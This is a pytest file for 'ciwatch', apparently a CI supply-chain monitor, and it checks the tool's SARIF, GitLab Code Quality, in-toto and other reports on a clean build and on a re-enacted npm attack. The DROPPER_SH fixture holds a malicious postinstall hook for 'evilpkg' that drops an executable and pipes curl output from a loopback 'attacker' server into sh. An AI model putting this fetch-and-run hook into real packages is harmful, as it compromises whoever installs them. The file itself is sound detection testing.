"""``ciwatch report --format FORMAT [-o FILE]`` on real records: a clean install and an attack
re-enactment, both made by the real npm under ``ciwatch run --net off``.

- The attack: a local npm package whose ``postinstall`` drops an executable script into the
  project and pipes what curl fetches from a loopback "attacker" server into ``sh``.
- The clean build: a hookless local package installed, then the project packed (``npm pack``
  writes a ``.tgz``: a package the in-toto statement attests).

Both projects sit in a subdirectory (``app/``) of a repository (a directory with ``.git``), so
SARIF's locations must be relative to the repository's root. SARIF is validated against the
OASIS 2.1.0 schema vendored here (``sarif-schema-2.1.0.json``, the errata01 schema from
oasis-tcs/sarif-spec); the in-toto statement is parsed back by the in-toto attestation library
and validated, and its subjects' digests are checked against the files.
"""

from __future__ import annotations

import hashlib
import json
import subprocess
import textwrap
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import jsonschema
import pytest

from ciwatch.policy.loader import resolve_policy
from ciwatch.record import read_record
from ciwatch.report.gitlab import fingerprint
from ciwatch.report.intoto import PREDICATE_TYPE
from ciwatch.report.model import build_report
from ciwatch.report.sarif import SarifContext, sarif_log
from ciwatch.verdict import RULE_CATALOGUE, evaluate
from tests.conftest import require
from tests.support.packages import (
    LoopbackServers,
    loopback_servers,
    make_npm_package,
    make_npm_project,
    npm_env,
)
from tests.support.runner import ciwatch_command, run_ciwatch

SCHEMA = Path(__file__).with_name("sarif-schema-2.1.0.json")
REPO = Path(__file__).resolve().parents[2]
BUILT_IN_POLICY = REPO / "ciwatch" / "policy" / "default.yaml"

#: The attack's postinstall: an executable dropped into the project, then a download piped into sh.
DROPPER_SH = textwrap.dedent(
    """\
    printf '#!/bin/sh\\necho pwned\\n' > "$INIT_CWD/dropper.sh"
    chmod +x "$INIT_CWD/dropper.sh"
    curl -fsS --noproxy '*' "$HOOK_HTTP_URL/stage2" | sh || true
    """
)


@dataclass(frozen=True)
class Build:
    repository: Path
    project: Path
    out: Path


@pytest.fixture(scope="module")
def servers(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LoopbackServers]:
    with loopback_servers(tmp_path_factory.mktemp("attacker")) as running:
        yield running


def _build(base: Path, packages: list[Path], command: list[str], env: dict[str, str]) -> Build:
    repository = base / "repo"
    (repository / ".git").mkdir(parents=True)
    project = make_npm_project(repository / "app", allow_scripts_from=packages).resolve()
    out = base / "out"
    run = run_ciwatch(["--net", "off", "--", *command], out, cwd=project, env={**npm_env(base / "cache"), **env})
    assert run.code == 0, run.stderr
    return Build(repository.resolve(), project, out)


@pytest.fixture(scope="module")
def attack(tmp_path_factory: pytest.TempPathFactory, servers: LoopbackServers) -> Build:
    for tool in ("npm", "curl"):
        require(tool)
    base = tmp_path_factory.mktemp("attack")
    package = make_npm_package(
        base / "pkg", "evilpkg", "1.0.0", {"postinstall": "sh ./hook.sh"}, {"hook.sh": DROPPER_SH}
    )
    build = _build(
        base, [package.tarball], ["npm", "install", "--no-audit", "--no-fund", str(package.tarball)], servers.hook_env()
    )
    assert ("http", "/stage2") in servers.requests, "the hook's download did not happen"
    return build


@pytest.fixture(scope="module")
def clean(tmp_path_factory: pytest.TempPathFactory) -> Build:
    require("npm")
    base = tmp_path_factory.mktemp("clean")
    package = make_npm_package(base / "pkg", "plainpkg", "2.0.0", {})
    command = f"npm install --no-audit --no-fund {package.tarball} && npm pack --silent"
    return _build(base, [], ["sh", "-c", command], {})


def report(build: Build, *args: str) -> subprocess.CompletedProcess[str]:
    """``ciwatch report`` as a user runs it, in the project (the built-in policy: it has none)."""
    return subprocess.run(
        [*ciwatch_command(), "report", *args, str(build.out)],
        cwd=build.project,
        capture_output=True,
        text=True,
        timeout=120,
    )


def report_file(build: Build, tmp_path: Path, fmt: str, *args: str) -> str:
    tmp_path.mkdir(parents=True, exist_ok=True)
    target = tmp_path / f"report.{fmt}"
    done = report(build, "--format", fmt, "-o", str(target), *args)
    assert done.returncode == 0, done.stderr
    assert done.stdout == "", "-o writes the file, not stdout"
    return target.read_text(encoding="utf-8")


def sarif_of(build: Build, tmp_path: Path) -> dict[str, Any]:
    document: dict[str, Any] = json.loads(report_file(build, tmp_path, "sarif"))
    jsonschema.Draft4Validator(json.loads(SCHEMA.read_text())).validate(document)
    return document


# -- SARIF ---------------------------------------------------------------------------------------


def test_sarif_of_the_attack_is_valid_and_points_at_the_packages_lockfile_line(attack: Build, tmp_path: Path) -> None:
    run = sarif_of(attack, tmp_path)["runs"][0]
    driver = run["tool"]["driver"]
    assert driver["name"] == "ciwatch" and driver["version"] and driver["informationUri"].startswith("https://")
    rules = {rule["id"]: rule for rule in driver["rules"]}
    assert set(RULE_CATALOGUE) <= set(rules)
    shell = rules["hook-shell"]
    assert "**What it catches.**" in shell["help"]["markdown"], "help comes from docs/rules.md's section"
    assert "**" not in shell["help"]["text"] and "What it catches." in shell["help"]["text"]
    assert shell["helpUri"].endswith("rules.md#hook-shell")
    assert shell["defaultConfiguration"]["level"] == "error"

    results = {result["ruleId"]: result for result in run["results"]}
    assert "hook-shell" in results, run["results"]
    result = results["hook-shell"]
    assert result["level"] == "error"
    assert result["properties"]["package"] == "evilpkg@1.0.0"
    assert result["properties"]["purl"] == "pkg:npm/evilpkg@1.0.0"
    assert result["properties"]["hook"] == "postinstall"
    assert result["properties"]["lineage"].endswith("postinstall of evilpkg@1.0.0 > hook.sh > sh")
    assert "curl" in result["message"]["text"], "the message names what the shell runs"
    physical = result["locations"][0]["physicalLocation"]
    assert physical["artifactLocation"]["uri"] == "app/package-lock.json", "relative to the repository's root"
    line = (attack.project / "package-lock.json").read_text().splitlines()[physical["region"]["startLine"] - 1]
    assert '"node_modules/evilpkg"' in line


def test_sarif_fingerprints_are_stable_and_those_of_gitlabs_code_quality(attack: Build, tmp_path: Path) -> None:
    first = sarif_of(attack, tmp_path / "1")["runs"][0]["results"]
    again = sarif_of(attack, tmp_path / "2")["runs"][0]["results"]
    marks = [result["partialFingerprints"]["ciwatch/v1"] for result in first]
    assert marks == [result["partialFingerprints"]["ciwatch/v1"] for result in again]
    quality = json.loads(report_file(attack, tmp_path, "codequality"))
    assert {issue["fingerprint"] for issue in quality} <= set(marks) and quality


def test_code_quality_of_the_attack_is_what_gitlab_reads(attack: Build, tmp_path: Path) -> None:
    schema = json.loads((Path(__file__).parent / "gitlab-codequality.schema.json").read_text())
    quality = json.loads(report_file(attack, tmp_path, "codequality"))
    jsonschema.validate(quality, schema)
    assert len({issue["fingerprint"] for issue in quality}) == len(quality)  # each issue once
    bad = [{**quality[0], "severity": "high"}]  # ciwatch's word, not GitLab's: the schema can fail
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(bad, schema)


def test_sarif_of_a_clean_install_has_rules_and_no_results(clean: Build, tmp_path: Path) -> None:
    run = sarif_of(clean, tmp_path)["runs"][0]
    assert run["results"] == []
    assert len(run["tool"]["driver"]["rules"]) == len(RULE_CATALOGUE)


def test_sarif_falls_back_to_the_workflow_file_without_a_lockfile_entry(attack: Build, tmp_path: Path) -> None:
    record = read_record(attack.out)
    policy = resolve_policy(tmp_path, None, None, known_rules=RULE_CATALOGUE)
    built = build_report(record, evaluate(record, policy))
    job = {"GITHUB_REPOSITORY": "o/r", "GITHUB_WORKFLOW_REF": "o/r/.github/workflows/ci.yml@refs/heads/main"}
    log = sarif_log(built, SarifContext(cwd=str(tmp_path), job=job))  # no lockfile there
    jsonschema.Draft4Validator(json.loads(SCHEMA.read_text())).validate(log)
    locations = {r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in log["runs"][0]["results"]}
    assert locations == {".github/workflows/ci.yml"}
    result = log["runs"][0]["results"][0]
    finding = next(f for f in built.verdict.counted if f.rule == result["ruleId"])
    assert result["partialFingerprints"]["ciwatch/v1"] == fingerprint(finding)


# -- in-toto -------------------------------------------------------------------------------------


def parsed_statement(text: str) -> dict[str, Any]:
    """The statement parsed back by the in-toto attestation library, and validated by it."""
    from google.protobuf import json_format
    from in_toto_attestation.v1 import statement_pb2
    from in_toto_attestation.v1.statement import Statement

    data: dict[str, Any] = json.loads(text)
    statement = Statement.copy_from_pb(json_format.ParseDict(data, statement_pb2.Statement()))
    statement.validate()
    assert statement.pb.predicate_type == PREDICATE_TYPE
    assert json_format.MessageToDict(statement.pb)["predicate"] == data["predicate"], "ints equal the Struct's doubles"
    return data


def sha256_of(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_intoto_of_the_attack_attests_the_dropped_executable_and_says_what_ran(attack: Build, tmp_path: Path) -> None:
    data = parsed_statement(report_file(attack, tmp_path, "intoto"))
    assert data["_type"] == "https://in-toto.io/Statement/v1"
    subjects = {subject["name"]: subject["digest"]["sha256"] for subject in data["subject"]}
    assert subjects == {"dropper.sh": sha256_of(attack.project / "dropper.sh")}
    predicate = data["predicate"]
    assert predicate["verdict"]["verdict"] == "fail"
    assert "hook-shell" in {finding["rule"] for finding in predicate["verdict"]["findings"]}
    assert predicate["policy"]["digest"]["sha256"] == sha256_of(BUILT_IN_POLICY)
    assert predicate["record"]["digest"]["sha256"] == sha256_of(attack.out / "record.jsonl")
    assert [(h["package"], h["hook"]) for h in predicate["hooks"]] == [("evilpkg", "postinstall")]
    assert any(host["host"].startswith("127.0.0.1:") for host in predicate["hosts"]), predicate["hosts"]
    assert str(attack.project / "dropper.sh") in {f["path"] for f in predicate["writtenFiles"]}
    assert predicate["run"]["command"][:2] == ["npm", "install"] and predicate["run"]["exitCode"] == 0


def test_intoto_of_a_clean_build_attests_the_package_it_packed(clean: Build, tmp_path: Path) -> None:
    data = parsed_statement(report_file(clean, tmp_path, "intoto"))
    packed = clean.project / "ciwatch-test-project-1.0.0.tgz"
    assert [(s["name"], s["digest"]["sha256"]) for s in data["subject"]] == [(packed.name, sha256_of(packed))]
    assert data["predicate"]["verdict"]["verdict"] == "pass"
    assert data["predicate"]["missingSubjects"] == []


def test_intoto_subjects_glob_and_a_subject_gone_since_the_build(clean: Build, tmp_path: Path) -> None:
    packed = clean.project / "ciwatch-test-project-1.0.0.tgz"
    aside = tmp_path / packed.name
    packed.rename(aside)
    try:
        target = tmp_path / "statement.json"
        done = report(clean, "--format", "intoto", "-o", str(target), "--subjects", "*.tgz", "--subjects", "*lock.json")
        assert done.returncode == 0, done.stderr
        assert f"{packed.name} was written by the build and is gone" in done.stderr
        data = parsed_statement(target.read_text())
        lock = clean.project / "package-lock.json"
        assert [(s["name"], s["digest"]["sha256"]) for s in data["subject"]] == [(lock.name, sha256_of(lock))]
        assert data["predicate"]["missingSubjects"] == [packed.name]
        nothing = report(clean, "--format", "intoto", "--subjects", "*.tgz")
        assert nothing.returncode == 2 and "nothing to attest" in nothing.stderr, nothing.stderr
    finally:
        aside.rename(packed)


# -- the other formats through the same command -------------------------------------------------


def test_every_format_of_the_attack_names_the_hook_and_its_package(attack: Build, tmp_path: Path) -> None:
    markdown = report_file(attack, tmp_path, "markdown")
    assert "evilpkg@1.0.0" in markdown and "hook-shell" in markdown and markdown.startswith("## ")
    cases = {c.get("name"): c for c in ElementTree.fromstring(report_file(attack, tmp_path, "junit")).iter("testcase")}
    assert cases["hook-shell"].find("failure") is not None and cases["dns-tunnel"].find("failure") is None
    assert "CIWATCH_VERDICT=fail\n" in report_file(attack, tmp_path, "dotenv")
    assert json.loads(report_file(attack, tmp_path, "json"))["verdict"]["verdict"] == "fail"
    terminal = report_file(attack, tmp_path, "terminal")
    assert "evilpkg@1.0.0" in terminal and "\x1b[" not in terminal, "no colour in a file"


def test_html_of_the_attack_is_one_page_naming_the_package(attack: Build, tmp_path: Path) -> None:
    """Only that ``--format html`` reaches html.py with the record (tests/reports/test_html.py
    checks the page itself in a browser)."""
    html = report_file(attack, tmp_path, "html")
    assert html.lstrip().lower().startswith("<!doctype html") and "evilpkg" in html and "hook.sh" in html


def test_clean_formats_say_pass(clean: Build, tmp_path: Path) -> None:
    assert report_file(clean, tmp_path, "dotenv").splitlines()[0] == "CIWATCH_VERDICT=pass"
    suites = ElementTree.fromstring(report_file(clean, tmp_path, "junit"))
    assert suites.get("failures") == "0"
    assert json.loads(report_file(clean, tmp_path, "codequality")) == []


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--json", "--format", "sarif"], "choose one"),
        (["--format", "sarif", "--subjects", "*.tgz"], "--subjects applies to --format intoto only"),
        (["--format", "pdf"], "Invalid value for '--format'"),
        (
            ["--format", "sarif", "-o", "/nonexistent/dir/report.sarif"],
            "-o /nonexistent/dir/report.sarif: No such file",
        ),
    ],
)
def test_contradictory_options_are_usage_errors(clean: Build, args: list[str], message: str) -> None:
    done = report(clean, *args)
    assert done.returncode == 2 and message in done.stderr, done.stderr
